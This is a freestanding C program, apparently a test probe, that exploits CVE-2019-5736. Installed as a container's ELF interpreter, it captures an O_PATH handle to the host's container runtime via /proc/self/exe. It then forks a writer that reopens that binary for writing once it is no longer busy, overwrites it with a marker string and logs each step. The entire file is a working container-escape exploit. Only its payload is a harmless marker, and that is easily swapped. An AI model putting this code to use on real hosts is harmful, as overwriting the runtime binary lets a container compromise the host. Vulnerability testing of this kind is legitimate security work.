/* CVE-2019-5736 attacker: installed as the container's ELF interpreter
 * (/lib64/ld-linux-x86-64.so.2), it runs inside any dynamically linked binary the
 * container executes -- the runtime itself when `/proc/self/exe` is executed. Freestanding
 * (raw syscalls): as an interpreter, libc's start-up would read the wrong program headers. */
typedef unsigned long ul;
static long sc(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_pwrite64 18
#define SYS_nanosleep 35
#define SYS_fork 57
#define SYS_execve 59
#define SYS_readlink 89
#define SYS_exit_group 231
#define O_WRONLY 01
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000
#define ETXTBSY 26
#define SELF "/lib64/ld-linux-x86-64.so.2"

static ul len(const char *s) { ul n = 0; while (s[n]) n++; return n; }
static int eq(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static char *num(long v, char *end) { /* decimal, written backwards before end */
    int neg = v < 0; ul u = neg ? -v : v; *--end = 0;
    do { *--end = '0' + u % 10; u /= 10; } while (u);
    if (neg) *--end = '-';
    return end;
}
static long parse(const char *s) { long v = 0; while (*s >= '0' && *s <= '9') v = v * 10 + (*s++ - '0'); return v; }
static long report_fd = -1;
static void say(const char *k, const char *v) {
    if (report_fd < 0) return;
    sc(SYS_write, report_fd, (long)k, len(k), 0); sc(SYS_write, report_fd, (long)"=", 1, 0);
    sc(SYS_write, report_fd, (long)v, len(v), 0); sc(SYS_write, report_fd, (long)"\n", 1, 0);
}
static void sayn(const char *k, long v) { char b[32]; say(k, num(v, b + sizeof b)); }
static void nap(long ms) {
    long ts[2] = {ms / 1000, (ms % 1000) * 1000000};
    sc(SYS_nanosleep, (long)ts, 0, 0, 0);
}

void start_c(long *sp) {
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    if (argc >= 4 && eq(argv[0], "pier-5736-writer")) {
        /* argv: writer FD REPORT: the runtime's process has been replaced; reopen its
         * exe for writing through the O_PATH descriptor inherited, and write. */
        report_fd = sc(SYS_open, (long)argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
        char path[64] = "/proc/self/fd/", b[32];
        char *n = num(parse(argv[1]), b + sizeof b);
        ul p = len(path); while (*n) path[p++] = *n++; path[p] = 0;
        long w = -ETXTBSY;
        for (int i = 0; i < 400 && w == -ETXTBSY; i++) {
            w = sc(SYS_open, (long)path, O_WRONLY, 0, 0);
            if (w == -ETXTBSY) nap(5);
        }
        sayn("reopen", w);
        if (w >= 0) sayn("write", sc(SYS_pwrite64, w, (long)"PIER-5736-OVERWRITTEN", 21, 0));
        say("done", "1");
        sc(SYS_exit_group, 0, 0, 0, 0);
    }
    if (argc >= 1 && eq(argv[0], "pier-5736-sleep")) {
        nap(1500);
        sc(SYS_exit_group, 0, 0, 0, 0);
    }
    /* Interpreter mode: argv is the executed program's (`/proc/self/exe REPORT`). */
    if (argc < 2) sc(SYS_exit_group, 97, 0, 0, 0);
    report_fd = sc(SYS_open, (long)argv[1], O_WRONLY | O_CREAT | O_APPEND, 0644, 0);
    char exe[512];
    long n = sc(SYS_readlink, (long)"/proc/self/exe", (long)exe, sizeof exe - 1, 0);
    exe[n > 0 ? n : 0] = 0;
    say("exe", exe);
    long fd = sc(SYS_open, (long)"/proc/self/exe", O_PATH, 0, 0);
    sayn("opath", fd);
    sayn("direct", sc(SYS_open, (long)"/proc/self/exe", O_WRONLY, 0, 0));
    if (fd < 0) { say("done", "1"); sc(SYS_exit_group, 0, 0, 0, 0); }
    long pid = sc(SYS_fork, 0, 0, 0, 0);
    if (pid == 0) {
        char b[32];
        char *args[] = {"pier-5736-writer", num(fd, b + sizeof b), argv[1], "x", 0};
        sc(SYS_execve, (long)SELF, (long)args, (long)envp, 0);
        say("exec-writer-failed", "1");
        sc(SYS_exit_group, 1, 0, 0, 0);
    }
    /* Stop executing the runtime, so that its file is no longer busy. */
    char *args[] = {"pier-5736-sleep", 0};
    sc(SYS_execve, (long)SELF, (long)args, (long)envp, 0);
    sc(SYS_exit_group, 1, 0, 0, 0);
}
__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call start_c\n hlt\n");
